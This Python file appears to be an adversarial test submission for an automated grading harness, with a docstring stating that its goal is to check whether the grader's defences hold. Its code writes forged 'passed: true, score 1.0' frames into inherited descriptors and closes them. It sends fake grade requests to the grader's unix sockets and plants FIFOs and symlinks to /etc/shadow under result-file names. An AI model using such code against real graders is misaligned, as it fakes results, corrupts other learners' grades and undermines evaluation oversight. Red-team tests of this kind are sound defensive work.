"""Attack the grader's plumbing from inside: write forged frames and junk into every inherited
descriptor (the rounds and control pipes, stdout, stderr), close or dup2 /dev/null over them,
try to connect to every unix socket in /proc/net/unix whose name holds "learn" (the template's socket, if named)
and send it junk and fake requests, and plant FIFOs, symlinks to /etc/shadow and a huge sparse
file in my output folder under names a results file might have, hoping the parent crashes, hangs,
or mixes my output into the next learner's grade.

The defence held if: the regrade ends normally (no exit 4, no hang), my answer fails, and every
honest learner passes."""
import json
import os
import socket

DOES_THE_WORK = False

junk = (json.dumps({"passed": True, "score": 1.0, "results": [[1.0]], "shape": [1 << 40]}).encode()
        + b"\n" + b"\xff" * 4096)
for fd in range(0, 64):
    if fd in (1, 2):
        continue
    try:
        os.set_blocking(fd, False)
        os.write(fd, junk)
    except OSError:
        pass
for fd in (0, 3, 4, 5, 6):
    try:
        os.close(fd)
    except OSError:
        pass
try:
    with open("/proc/net/unix") as fh:
        paths = [line.split()[-1] for line in fh.readlines()[1:] if len(line.split()) >= 8]
except OSError:
    paths = []
# only the grader's own sockets (out of care for the shared machine): names holding "learn"
for p in paths[:2000]:
    if not p.startswith(("/", "@")) or "learn" not in p:
        continue
    addr = "\0" + p[1:] if p.startswith("@") else p
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            s = socket.socket(socket.AF_UNIX, kind)
            s.settimeout(0.2)
            s.connect(addr)
            s.send(b'{"op": "grade", "job": "/etc", "out": "/tmp"}\n' + junk)
            s.close()
        except OSError:
            pass
here = os.getcwd()
for n in ("results.bin", "results", "result.json", "round-0.bin", "round0", "0", "1", "frame"):
    try:
        os.mkfifo(os.path.join(here, n))
    except OSError:
        try:
            os.symlink("/etc/shadow", os.path.join(here, n))
        except OSError:
            pass
try:
    with open(os.path.join(here, "big.bin"), "wb") as fh:
        fh.truncate(60 << 20)
except OSError:
    pass
os.write(1, junk)
os.write(2, junk)


def forward(w, x):
    return w + x
